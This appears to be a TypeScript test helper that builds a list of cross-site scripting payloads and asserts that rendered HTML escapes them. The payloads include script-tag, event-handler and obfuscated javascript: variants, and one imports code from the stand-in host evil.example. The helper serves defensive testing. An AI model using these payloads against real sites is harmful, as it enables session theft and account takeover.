import { expect } from 'vitest';

const SCRIPTS = ['alert(1)', 'alert`1`', 'top[8680439..toString(30)](1)', 'import("//evil.example/x.js")'];
const AROUND = [
  (code: string) => `<script>${code}</script>`,
  (code: string) => `"><script>${code}</script>`,
  (code: string) => `'><img src=x onerror=${code}>`,
  (code: string) => `</title><svg onload=${code}>`,
  (code: string) => `javascript:${code}`,
  (code: string) => `java\tscript:${code}`,
  (code: string) => ` \u0001javascript:${code}`,
  (code: string) => `data:text/html,<script>${code}</script>`,
  (code: string) => `" onmouseover="${code}`,
  (code: string) => `\${${code}}{{${code}}}`,
  (code: string) => `<!--<script>${code}//-->`,
  (code: string) => `<a href="vbscript:${code}">x</a>`,
  (code: string) => `]]><math><mi xlink:href="javascript:${code}">`,
  (code: string) => `\u202e</script\u00a0><iframe srcdoc="<script>${code}</script>">`,
  (code: string) => `red;background:url(javascript:${code})`,
];
/** Texts that would execute as scripts where escaping is missing. */
export const XSS_PAYLOADS: readonly string[] = AROUND.flatMap((around) => SCRIPTS.map(around));

/**
 * Fails if HTML rendered from hostile texts contains an element, an address or a handler that would execute
 * one.
 */
export function expectNoInjection(html: string): void {
  expect(html).not.toMatch(/<(?:script|iframe|math|svg onload|img src=x)/i);
  expect(html).not.toMatch(/<a [^>]*\bhref="[^\w/]*(?:javascript|java\tscript|vbscript|data:text)/i);
  // Attribute values cannot end their quotes, which are escaped in them.
  expect(html.replaceAll(/="[^"]*"/g, '')).not.toMatch(/<[^>]*\son\w+/i);
  expect(html).not.toContain(' style=');
}
